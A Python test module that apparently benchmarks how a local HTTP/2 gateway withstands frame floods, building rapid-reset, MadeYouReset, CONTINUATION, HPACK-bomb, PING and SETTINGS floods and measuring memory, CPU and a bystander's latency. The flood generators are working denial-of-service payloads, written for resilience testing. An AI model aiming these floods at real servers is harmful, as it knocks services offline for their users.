"""Floods of HTTP/2 frames, each from one client for four seconds that comes back as soon as it is cut off.

Used by scripts/faults. Measured are the gateway's memory and CPU, and a bystander's slowest answer.
"""

import multiprocessing
import select
import socket
import struct
import time

from clients import Bystander
from gateways import Gateway
from upstream import Upstream

BURST = 4.0  # seconds
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field without indexing (RFC 7541, section 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(method=b"GET", path=b"/"):
    return b"".join([literal(b":method", method), literal(b":scheme", b"http"), literal(b":authority", b"a"),
                     literal(b":path", path)])


def streams(count, one):
    """What `one` sends on each of so many new streams."""
    return [b"".join(one(n) for n in range(1 + first, 1 + first + 200, 2)) for first in range(0, 2 * count, 200)]


def endless(piece):
    """One header block and pieces of it that never end."""
    return [frame(HEADERS, 0, 1, head())] + [piece * (65536 // len(piece))] * 400


def again(piece, first=b""):
    return [first] + [piece * (65536 // len(piece))] * 400


WORK = head(b"POST", b"/work")
CANCEL = struct.pack(">I", 8)
HUGE = struct.pack(">I", 0x7FFFFFFF)
# An entry of 4,000 bytes for the dynamic table, then references to it.
BOMB = head() + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 12000

FLOODS = {
    "PING": lambda: again(frame(PING, 0, 0, b"12345678")),
    "PING acknowledgements": lambda: again(frame(PING, 1, 0, b"12345678")),
    "SETTINGS": lambda: again(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 9))),
    "empty SETTINGS": lambda: again(frame(SETTINGS, 0, 0)),
    "PRIORITY": lambda: again(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 9))),
    "unknown frames": lambda: again(frame(0xFA, 0, 0)),
    "WINDOW_UPDATE": lambda: again(frame(WINDOW, 0, 0, struct.pack(">I", 1))),
    "empty DATA": lambda: again(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, WORK)),
    "rapid reset": lambda: streams(
        40000, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, WORK) + frame(RST, 0, n, CANCEL)),
    "MadeYouReset": lambda: streams(
        40000, lambda n: frame(HEADERS, END_HEADERS, n, WORK) + frame(WINDOW, 0, n, HUGE)),
    "malformed requests": lambda: streams(40000, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, head(b"GE T"))),
    "refused streams": lambda: streams(40000, lambda n: frame(HEADERS, END_HEADERS, n, WORK)),
    "CONTINUATION": lambda: endless(frame(CONTINUATION, 0, 1, literal(b"a", b"b"))),
    "empty CONTINUATION": lambda: endless(frame(CONTINUATION, 0, 1)),
    "HPACK bomb": lambda: streams(20000, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, BOMB if n == 1 else head() + b"\xbe" * 12000)),
    "cookie crumbs": lambda: streams(20000, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, head() + literal(b"cookie", b"") * 1500)),
}


def measure(name, only=None):
    """Per flood: megabytes, milliseconds of the slowest answer, seconds of CPU, connections it took."""
    for flood, pieces in FLOODS.items():
        if only and only not in flood:
            continue
        with Upstream() as upstream, Gateway(name, upstream.port) as gateway:
            yield flood, one(gateway, pieces())


def one(gateway, pieces):
    connections = multiprocessing.Value("i", 0)
    bystander = Bystander(gateway.ports["h1"])
    memory, cpu = gateway.memory(), gateway.cpu()
    flooder = multiprocessing.Process(target=flood_on, args=(gateway.ports["h2"], pieces, connections))
    flooder.start()
    most = memory
    while flooder.is_alive():
        most = max(most, gateway.memory())
        time.sleep(0.05)
    flooder.join()
    used = gateway.cpu() - cpu
    return {"MB": (most - memory) / 1e6, "ms": bystander.stop(), "CPU s": used, "connections": connections.value}


def flood_on(port, pieces, connections):
    end = time.monotonic() + BURST
    while time.monotonic() < end:
        connections.value += 1
        try:
            with socket.create_connection(("127.0.0.1", port), 1) as client:
                pour(client, pieces, end)
        except OSError:
            pass


def pour(client, pieces, end):
    """Sends everything, reads what comes, and stays until it is cut off."""
    client.sendall(PREFACE + frame(SETTINGS, 0, 0))
    client.setblocking(False)
    rest, pieces = memoryview(b""), iter(pieces)
    while time.monotonic() < end:
        if not rest:
            rest = memoryview(next(pieces, b""))
        readable, writable, _ = select.select([client], [client] if rest else [], [], 0.05)
        if readable and not client.recv(65536):
            return
        if writable:
            rest = rest[client.send(rest):]
